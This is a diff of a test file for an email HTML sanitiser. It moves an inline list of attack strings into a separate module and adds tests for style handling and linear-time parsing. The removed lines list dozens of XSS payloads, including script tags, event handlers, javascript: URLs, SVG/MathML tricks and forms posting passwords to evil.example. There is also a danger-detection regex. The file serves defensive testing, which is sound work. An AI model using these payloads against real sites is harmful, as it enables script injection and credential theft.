@@ -1,5 +1,7 @@
 import { describe, expect, test } from '@jest/globals';
 import { sanitise } from '../../src/inbound/sanitise.ts';
+import { VECTORS } from '../support/attack-vectors.ts';
+import { expectLinear } from '../support/growth.ts';
 
 const safe = (html: string) => sanitise(html).html;
 
@@ -8,65 +10,10 @@ const DANGER =
   /<(?:script|style|iframe|frame|object|embed|svg|math|form|input|button|select|textarea|meta|base|link|template|noscript|xmp|audio|video|applet|details|dialog|portal)\b|<[^>"]*(?:"[^"]*"[^>"]*)*\s(?:on\w+|id|name|class|srcdoc|action|formaction|background|ping|srcset|xmlns|is|slot|part)\s*=|(?:href|src)="(?!https?:|mailto:|tel:|cid:|data:image\/(?:png|gif|jpeg);base64,)|url\(|expression\(|position\s*:/i;
 
 describe('nothing that runs comes through', () => {
-  test.each([
-    '<script>alert(1)</script>',
-    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
-    '<scr<script>ipt>alert(1)</script>',
-    '<img src=x onerror=alert(1)>',
-    '<img src=x onerror\n=alert(1)//',
-    '<img """><script>alert(1)</script>">',
-    '<img/src=`x`onerror=alert(1)>',
-    '<p onclick="alert(1)">x</p>',
-    '<a href="javascript:alert(1)">x</a>',
-    '<a href="JaVaScRiPt:alert(1)">x</a>',
-    '<a href="java&#10;script:alert(1)">x</a>',
-    '<a href="&#106;avascript:alert(1)">x</a>',
-    '<a href="\u0001javascript:alert(1)">x</a>',
-    '<a href="vbscript:msgbox(1)">x</a>',
-    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-    '<a href="//evil.example">x</a>',
-    '<a href="relative" ping="https://evil.example">x</a>',
-    '<img src="javascript:alert(1)">',
-    '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
-    '<img srcset="https://evil.example/x.png 2x">',
-    '<svg><script>alert(1)</script></svg>',
-    '<svg onload=alert(1)>',
-    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-    '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
-    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
-    '<iframe src="https://evil.example"></iframe>',
-    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-    '<object data="https://evil.example"></object><embed src=x>',
-    '<form action="https://evil.example"><input name=password><button formaction=javascript:alert(1)>x</button></form>',
-    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-    '<base href="https://evil.example/">',
-    '<link rel="stylesheet" href="https://evil.example/x.css">',
-    '<style>@import "https://evil.example/x.css"; body{position:fixed}</style>',
-    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-    '<template><img src=x onerror=alert(1)></template>',
-    '<xmp><img src=x onerror=alert(1)></xmp>',
-    '<textarea><img src=x onerror=alert(1)></textarea>',
-    '<!--><img src=x onerror=alert(1)>-->',
-    '<![CDATA[<img src=x onerror=alert(1)>]]>',
-    '<?xml version="1.0"?><img src=x onerror=alert(1)>',
-    '<table background="https://evil.example/x.png"><tr><td>x</td></tr></table>',
-    '<video poster=javascript:alert(1)><source onerror=alert(1)></video>',
-    '<details open ontoggle=alert(1)>x</details>',
-    '<p id="csrf" name="csrf" class="btn btn-danger">x</p>',
-    '<img name=getElementById id=cookie>',
-    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
-    '<div style="background:url(https://evil.example/x.png)">x</div>',
-    '<div style="background-image:\\75rl(https://evil.example/x.png)">x</div>',
-    '<div style="width:expression(alert(1))">x</div>',
-    '<div style="color:red;behavior:url(x.htc);-moz-binding:url(x)">x</div>',
-    '<div style="font-family:x\\3bposition\\3a fixed">x</div>',
-    '<div style="col/**/or:red;background:u/**/rl(x)">x</div>',
-    '<body onload=alert(1) background=x>x',
-    '<a href="https://x.example" onmouseover="alert(1)" style="position:absolute">x</a>',
-  ])('%s', (attack) => {
+  test.each(VECTORS.map(({ html }) => html))('%s', (attack) => {
     expect(safe(attack)).not.toMatch(DANGER);
     // What browsers read of it is read the same way again: nothing changes its meaning on the way.
-    expect(safe(safe(attack))).toBe(safe(attack));
+    expect(safe(safe(attack).replaceAll(' data-remote-src=', ' src='))).toBe(safe(attack));
   });
 });
 
@@ -85,6 +32,60 @@ describe('what a mail is made of stays', () => {
     );
   });
 
+  test('the size of words is of the page, so that it does not multiply, and nobody needs a glass', () => {
+    const sized = (size: string) => /font-size:([^"]*)"/.exec(safe(`<p style="font-size:${size}">x</p>`))?.[1] ?? null;
+    expect(['14px', '11pt', '150%', '0.8em', '1px', '0', '999px', 'larger', 'x-large', 'calc(9px)'].map(sized)).toEqual(
+      [...['14px', '11pt', '1.5rem', '0.8rem', '9px', '9px', '72px', 'large', 'x-large', null]],
+    );
+  });
+
+  test('the colour of a background, for which words were chosen, without its image', () => {
+    const styled = (style: string) => /style="([^"]*)"/.exec(safe(`<td style="${style}">x</td>`))?.[1] ?? null;
+    expect(styled('background:#003366 url(https://x.example/a.png) no-repeat center / cover')).toBe(
+      'background-color:#003366',
+    );
+    expect(styled('background:linear-gradient(red, rgb(1, 2, 3)), rgba(0, 0, 0, .5)')).toBe(
+      'background-color:rgba(0, 0, 0, .5)',
+    );
+    expect(styled('background:url(https://x.example/a.png)')).toBeNull();
+    expect(safe('<body bgcolor="#000000" text=white style="margin:0">x</body>')).toBe(
+      '<div style="background-color:#000000;color:white;margin:0">x</div>',
+    );
+    expect(safe('<html><body onload=x link=blue>x</body></html>')).toBe('x');
+  });
+
+  test('the short form of a font, taken apart', () => {
+    expect(safe('<p style="font: italic bold 12px/1.5 Arial, sans-serif">x</p>')).toBe(
+      '<p style="font-style:italic;font-weight:bold;font-size:12px;line-height:1.5;font-family:arial, sans-serif">x</p>',
+    );
+    for (const font of ['inherit', '12px', 'caption', '12px url(x)', 'expression(1) 12px arial'])
+      expect([font, safe(`<p style="font:${font}">x</p>`)]).toEqual([
+        font,
+        font.startsWith('12px u')
+          ? '<p style="font-size:12px">x</p>'
+          : font.startsWith('exp')
+            ? expect.any(String)
+            : '<p>x</p>',
+      ]);
+  });
+
+  test('boxes that are never lower than their words, nor too narrow for them', () => {
+    expect(safe('<div style="height:1px;max-width:0;width:600px">x</div>')).toBe(
+      '<div style="min-height:1px;width:600px">x</div>',
+    );
+    expect(safe('<img style="height:1px;width:10%" />')).toBe('<img style="height:1px;width:10%" />');
+  });
+
+  test('lines that stand close, as Outlook and webmails have them', () => {
+    const word = '<style>p.MsoNormal, li.MsoNormal\n\t{margin:0cm;\n\tfont-size:12pt;}</style>';
+    expect(safe(`${word}<p class="MsoNormal">a</p><p>b</p>`)).toBe('<p style="margin:0">a</p><p>b</p>');
+    const web = '<style>P {margin-top:0;margin-bottom:0;}</style>';
+    expect(safe(`${web}<p>a</p><p style="margin-bottom:1em">b</p>`)).toBe(
+      '<p style="margin:0">a</p><p style="margin:0;margin-bottom:1em">b</p>',
+    );
+    expect(safe('<p class="MsoNormal">a</p>')).toBe('<p>a</p>');
+  });
+
   test('links open elsewhere and tell nothing of us', () => {
     expect(safe('<a href="https://univ.example/?a=1&amp;b=2" target="_top">x</a>')).toBe(
       '<a href="https://univ.example/?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">x</a>',
@@ -95,8 +96,10 @@ describe('what a mail is made of stays', () => {
     expect(safe('<blockquote class="gmail_quote">x</blockquote>')).toBe('<blockquote type="cite">x</blockquote>');
   });
 
-  test('words within elements that are not kept', () =>
-    expect(safe('<o:p>a</o:p><custom-tag>b</custom-tag>')).toBe('ab'));
+  test('words within elements that are not kept', () => {
+    expect(safe('<o:p>a</o:p><custom-tag>b</custom-tag>')).toBe('ab');
+    expect(safe('<svg><text>a</text><desc>b</desc></svg><math><mi>c</mi></math><object>d</object>')).toBe('acd');
+  });
 });
 
 describe('images', () => {
@@ -126,17 +129,34 @@ describe('images', () => {
 
 describe('HTML beyond measure', () => {
   test.each([
-    ['nested deeply', '<div>'.repeat(100_000)],
-    ['nested deeply by elements that close each other', '<p><li>'.repeat(70_000)],
-    ['nested deeply behind end tags in attributes', '<b x="</b>">'.repeat(40_000)],
-    ['nested deeply behind end tags in comments', '<b><!--</b>-->'.repeat(40_000)],
-  ])('%s is flattened, and its words stay', (_what, attack) => {
-    const started = performance.now();
-    const { html, cut } = sanitise(`${attack}Help!`);
+    ['nested deeply', '<div>'],
+    ['nested deeply by elements that close each other', '<p><li>'],
+    ['nested deeply behind end tags in attributes', '<b x="</b>">'],
+    ['nested deeply behind end tags in comments', '<b><!--</b>-->'],
+  ])('%s is flattened in time in proportion to its length, and its words stay', async (_what, attack) => {
+    const { html, cut } = sanitise(`${attack.repeat(40_000)}Help!`);
     expect(html).toContain('Help!');
     expect(cut).toBe(true);
     expect(html).not.toMatch(/(?:<(?:div|b|p|li)>){401}/);
-    expect(performance.now() - started).toBeLessThan(5000);
+    await expectLinear((size) => sanitise(`${attack.repeat(20 * size)}Help!`), 2 ** 12);
+  });
+
+  test.each([
+    ['nested without end tags', '<div><span><b>'],
+    ['nested tables', '<table><tr><td>'],
+    ['end tags of what is not open', '</b></p></td>'],
+    ['beginnings of tags', '<a <b <!'],
+    ['attributes', '<p a=b '],
+    ['quotes', '<p title="x'],
+    ['comments', '<!-- x'],
+    ['entities', '&lt&amp;#x41&'],
+    ['styles', '<p style="a:b;color:red;background:url(x) #fff">'],
+    ['rules for paragraphs', '<style>p.MsoNormal, p{x margin'],
+    ['raw text', '<noscript><p></noscript><style></style>'],
+    ['links', '<a href="java&#10;script:x">y'],
+  ])('megabytes of %s take time in proportion to their length', async (_what, part) => {
+    await expectLinear((size) => sanitise(part.repeat(Math.ceil((64 * size) / part.length))), 2 ** 13);
+    expect(sanitise(part.repeat(Math.ceil(10_000_000 / part.length))).cut).toBe(true);
   });
 
   test('too long: cut, and the words behind the cut are kept', () => {
@@ -147,6 +167,10 @@ describe('HTML beyond measure', () => {
     expect(html).toBe('<p>x</p>'.repeat(10));
     expect(rest).toBe('The <end>');
     expect(cut).toBe(true);
+  });
+
+  test('what a film or a sound says to those who can’t play it is for everybody here', () => {
+    expect(sanitise('<video><source src="x.mp4">Voir la vidéo</video>').html).toBe('Voir la vidéo');
   });
 
   test('ordinary nesting is left alone', () => {
